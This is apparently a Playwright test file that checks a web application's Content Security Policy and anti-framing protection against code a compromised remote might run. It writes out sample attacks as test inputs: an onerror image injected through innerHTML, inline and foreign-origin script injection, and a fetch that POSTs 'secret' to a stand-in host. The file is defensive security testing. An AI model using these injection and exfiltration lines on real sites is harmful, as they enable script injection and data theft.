import { createServer, type Server } from 'node:http'
import { addresses } from '../support/system.ts'
import { expect, test } from '../support/test.ts'

test.use({ expectedErrors: [/Content Security Policy|action has been blocked/i] })

/** Attacks by a compromised remote. */
const attempts: Record<string, () => unknown> = {
  // Runs in a task of its own, since calls from the debugger bypass the policy.
  'evaluates text': () =>
    new Promise((resolve, reject) => {
      setTimeout(() => {
        try {
          resolve(Reflect.construct(Function, ['globalThis.intruded = true'])())
        } catch (error) {
          reject(error)
        }
      })
    }),
  'writes HTML into the page': () => {
    document.body.innerHTML = '<img src="x" onerror="globalThis.intruded = true">'
  },
  'adds an inline script': () => {
    const script = document.createElement('script')
    script.text = 'globalThis.intruded = true'
    document.head.append(script)
  },
  'loads a script of another origin': () => {
    const script = document.createElement('script')
    script.src = 'https://elsewhere.example/evil.js'
    document.head.append(script)
  },
  'creates a Trusted Types policy': () =>
    Reflect.get(window, 'trustedTypes').createPolicy('mine', {
      createScript: (text: string) => text,
    }),
  'sends data to another origin': () =>
    fetch('https://elsewhere.example/collect', { method: 'POST', body: 'secret' }),
}

for (const [what, intrude] of Object.entries(attempts))
  test(`the policy blocks code that ${what}`, async ({ page }) => {
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await page.goto('/events')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()

    await expect(page.evaluate(intrude)).rejects.toThrow(/TypeError|EvalError/)
    expect(await page.evaluate(() => 'intruded' in globalThis)).toBe(false)
    expect(asked.filter((url) => url.includes('elsewhere.example'))).toEqual([])
    await expect(page.getByRole('banner')).toBeVisible()
  })

test.describe('a page of another origin', () => {
  let elsewhere: Server

  test.beforeAll(async () => {
    elsewhere = createServer((_, answer) => {
      answer.setHeader('Content-Type', 'text/html')
      answer.end(`<iframe src="${addresses.app}/"></iframe>`)
    })
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
  })

  test.afterAll(() => {
    elsewhere.close()
  })

  test('cannot frame the application', async ({ page }) => {
    const address = elsewhere.address()
    if (!address || typeof address === 'string') throw new Error('It does not listen')
    await page.goto(`http://127.0.0.1:${address.port}/`)
    const [, frame] = page.frames()
    await expect.poll(() => frame?.url()).toContain('chrome-error://')
  })
})
